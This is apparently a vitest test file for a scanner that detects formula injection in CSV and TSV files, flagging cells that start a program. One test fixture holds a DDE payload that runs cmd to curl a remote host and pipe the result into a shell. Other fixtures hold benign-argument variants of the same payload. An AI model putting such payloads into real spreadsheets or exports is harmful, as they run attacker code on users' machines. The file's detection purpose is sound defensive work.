import { expect, test } from "vitest";
import { isTable, MAX_FORMULAS, readTable } from "../../../src/read/manifest/read-table.ts";
import { tell } from "./tell.ts";

test.each([
  ["a.csv", true],
  ["b/A.TSV", true],
  ["a.csv.md", false],
])("%s: %s", (path, expected) => {
  expect(isTable(path)).toBe(expected);
});

test("a cell that asks a program for data starts it, and its words are read on", () => {
  const text = "item,sum\nrent,\"=cmd|'/C curl -s http://198.51.100.7/a | cmd'!A0\"\n";
  const told = tell(readTable, "a.csv", text, "text");
  expect(told.of("file").map(({ at, form }) => ({ line: at.line, column: at.column, form }))).toEqual([
    { line: 2, column: 7, form: { is: "active-markup", construct: "formula that starts a program" } },
  ]);
  expect(told.operations("spawn")).toMatchObject([
    { program: { text: "cmd /C curl -s http://198.51.100.7/a | cmd" }, shell: true },
  ]);
  expect(told.in("batch")).toEqual(["cmd /C curl -s http://198.51.100.7/a | cmd"]);
  expect(told.embedded[0]?.placeOf("http")).toBe("2:24");
});

test.each([
  ["a plus", "+cmd|'/C x'!A1"],
  ["a minus", "-cmd|'/C x'!A1"],
  ["an at sign", "@cmd|'/C x'!A1"],
  ["a quoted program", "=\"cmd\"|'/C x'!A1"],
])("%s begins a formula as well", (_name, text) => {
  expect(tell(readTable, "a.csv", text, "text").operations("spawn")).toHaveLength(1);
});

test.each([
  ["a sum", "=SUM(B2:B3)"],
  ["a pipe of a shell", "cat 'x' | grep 'y'!"],
  ["no cell behind", "=cmd|'/C x'"],
])("not: %s", (_name, text) => {
  expect(tell(readTable, "a.csv", text, "text").facts).toEqual([]);
});

test("more cells than are told are a gap", () => {
  const cell = "=cmd|'/C x'!A1\n";
  expect(tell(readTable, "a.csv", cell.repeat(MAX_FORMULAS), "text").gaps).toEqual([]);
  expect(tell(readTable, "a.csv", cell.repeat(MAX_FORMULAS + 1), "text").gaps).toMatchObject([
    { code: "too-many", line: MAX_FORMULAS + 1, blocking: true },
  ]);
});
